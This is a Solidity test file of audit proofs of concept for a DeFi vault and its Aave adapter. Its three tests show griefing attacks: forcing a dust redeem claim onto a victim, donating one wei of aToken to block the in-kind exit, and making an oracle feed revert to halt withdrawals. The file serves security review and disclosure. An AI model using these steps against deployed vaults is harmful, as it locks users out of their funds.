// SPDX-License-Identifier: MIT
pragma solidity 0.8.28;

// solhint-disable gas-small-strings

import {ERC4626} from "@openzeppelin/contracts/token/ERC20/extensions/ERC4626.sol";
import {VaultFixture} from "./VaultFixture.sol";
import {TestERC20} from "../../../contracts/mocks/TestERC20.sol";
import {IAavePoolMinimal} from "../../../contracts/interfaces/IAavePoolMinimal.sol";
import {AaveV3Adapter} from "../../../contracts/adapters/AaveV3Adapter.sol";
import {ConfigLib} from "../../../contracts/libraries/ConfigLib.sol";
import {OracleLib} from "../../../contracts/libraries/OracleLib.sol";
import {IBallastVault} from "../../../contracts/interfaces/IBallastVault.sol";

/// @notice TEST ONLY. The part of an Aave V3 pool the adapter's constructor and views touch: the
///         base reserve's aToken (a plain transferable ERC-20, as real aTokens are).
contract ReviewMockPool {
    address public immutable A_TOKEN;

    constructor(address aToken) {
        A_TOKEN = aToken;
    }

    function getReserveData(address) external view returns (IAavePoolMinimal.ReserveData memory d) {
        d.aTokenAddress = A_TOKEN;
    }
}

/// @notice Review proofs of concept.
contract ReviewPocTest is VaultFixture {
    address internal attacker = makeAddr("attacker");
    address internal spender = makeAddr("spender");

    function setUp() public {
        _deploy(_fees(0, 0), address(0));
    }

    /// Finding 1: anyone can name any address as the controller of a dust request; once it is
    /// fulfilled, the victim's withdraw/redeem are routed to the dust claim, so its synchronous
    /// withdrawals of idle funds revert (and withdraw(maxWithdraw) makes no progress).
    function test_poc_forcedDustClaimHijacksSyncWithdrawals() public {
        uint256 aliceShares = _deposit(alice, 1_000e6);
        _deposit(attacker, 1e6);
        // alice can withdraw synchronously from idle funds
        assertApproxEqAbs(vault.maxWithdraw(alice), 1_000e6, 1);

        // attacker: 1 share unit (1e-12 USDC) requested with alice as controller, then fulfilled
        vm.prank(attacker);
        vault.requestRedeem(1, alice, attacker);
        vault.fulfilRedemptions(); // permissionless (a rebalance fulfils too)

        // alice's withdraw path is now her 0-asset claim
        assertEq(vault.maxWithdraw(alice), 0, "maxWithdraw hijacked");
        assertEq(vault.maxRedeem(alice), 1, "maxRedeem hijacked");
        vm.prank(alice);
        vm.expectRevert(
            abi.encodeWithSelector(ERC4626.ERC4626ExceededMaxWithdraw.selector, alice, uint256(100e6), uint256(0))
        );
        vault.withdraw(100e6, alice, alice);
        vm.prank(alice);
        vm.expectRevert(
            abi.encodeWithSelector(ERC4626.ERC4626ExceededMaxRedeem.selector, alice, aliceShares, uint256(1))
        );
        vault.redeem(aliceShares, alice, alice);

        // a withdraw-only integration (withdraw(maxWithdraw)) never gets out of it
        for (uint256 i; i < 3; ++i) {
            uint256 m = vault.maxWithdraw(alice);
            vm.prank(alice);
            vault.withdraw(m, alice, alice);
        }
        assertEq(vault.claimableRedeemRequest(0, alice), 1, "still stuck in claim mode");
        assertEq(vault.maxWithdraw(alice), 0);

        // ERC-4626 allowance holders (routers, zaps) are locked out too
        vm.prank(alice);
        vault.approve(spender, type(uint256).max);
        vm.prank(spender);
        vm.expectRevert(
            abi.encodeWithSelector(ERC4626.ERC4626ExceededMaxWithdraw.selector, alice, uint256(1e6), uint256(0))
        );
        vault.withdraw(1e6, spender, alice);
    }

    /// Finding 2: a 1-wei aToken transfer to the Aave adapter blocks the in-kind exit (and the
    /// guardian's removal of the lending adapter); during an oracle outage no plan can clear it.
    function test_poc_aTokenDustBlocksInKindExit() public {
        _deposit(alice, 1_000e6);
        TestERC20 aUsdc = new TestERC20("aUSDC", "aUSDC", 6);
        ReviewMockPool pool = new ReviewMockPool(address(aUsdc));
        AaveV3Adapter aave = new AaveV3Adapter(address(vault), IAavePoolMinimal(address(pool)));
        vm.prank(curator);
        vault.submitAdapter(2, address(aave), 2);
        vm.warp(block.timestamp + TIMELOCK);
        _refreshFeeds();
        vault.acceptAdapter(2);
        assertEq(vault.lendingAdapter(), address(aave));
        assertEq(aave.collateralOf(address(usdc)), 0, "no position");

        vm.prank(guardian);
        vault.shutDown();
        // oracle outage (WETH feed stale): the in-kind exit is the oracle-free exit
        vm.warp(block.timestamp + HEARTBEAT + 1);
        usdcFeed.updateAnswer(1e8);
        wbtcFeed.updateAnswer(60000e8);

        // griefer donates 1 wei of aUSDC to the adapter
        aUsdc.mint(attacker, 1);
        vm.prank(attacker);
        aUsdc.transfer(address(aave), 1);

        uint256 shares = vault.balanceOf(alice);
        vm.prank(alice);
        vm.expectRevert(abi.encodeWithSelector(ConfigLib.LendingPositionOpen.selector, uint256(1), uint256(0)));
        vault.exitInKind(shares, alice, alice);

        vm.prank(guardian);
        vm.expectRevert(abi.encodeWithSelector(ConfigLib.LendingPositionOpen.selector, uint256(1), uint256(0)));
        vault.submitAdapter(2, address(0), 0);

        // the keeper cannot unwind the dust while a feed is stale: every plan reverts first
        IBallastVault.Plan memory p = _emptyPlan();
        p.actions = new IBallastVault.Action[](1);
        p.actions[0] = IBallastVault.Action(2, abi.encode(uint8(2), address(usdc), type(uint256).max));
        bytes memory sig = _sign(p);
        vm.expectRevert(
            abi.encodeWithSelector(
                OracleLib.OracleStale.selector,
                address(wethFeed),
                wethFeed.latestTimestamp(),
                uint256(HEARTBEAT),
                block.timestamp
            )
        );
        vault.rebalance(p, sig);
    }

    /// Finding 3: a feed whose latestRoundData() reverts (instead of returning a bad answer) makes
    /// every synchronous withdrawal revert, although docs/vault.md promises idle withdrawals keep
    /// working during an oracle outage.
    function test_poc_revertingFeedBlocksIdleWithdrawals() public {
        uint256 aliceShares = _deposit(alice, 1_000e6);
        // control: a bad answer takes the outage path
        wethFeed.updateAnswer(0);
        assertGt(vault.maxRedeem(alice), 0);
        wethFeed.updateAnswer(3000e8);
        // the feed now reverts (PUSH1 0 PUSH1 0 REVERT)
        vm.etch(address(wethFeed), hex"60006000fd");
        vm.expectRevert();
        vault.maxWithdraw(alice);
        vm.prank(alice);
        vm.expectRevert();
        vault.redeem(aliceShares / 10, alice, alice);
        assertEq(usdc.balanceOf(address(vault)), 1_000e6, "all idle, none withdrawable");
    }
}
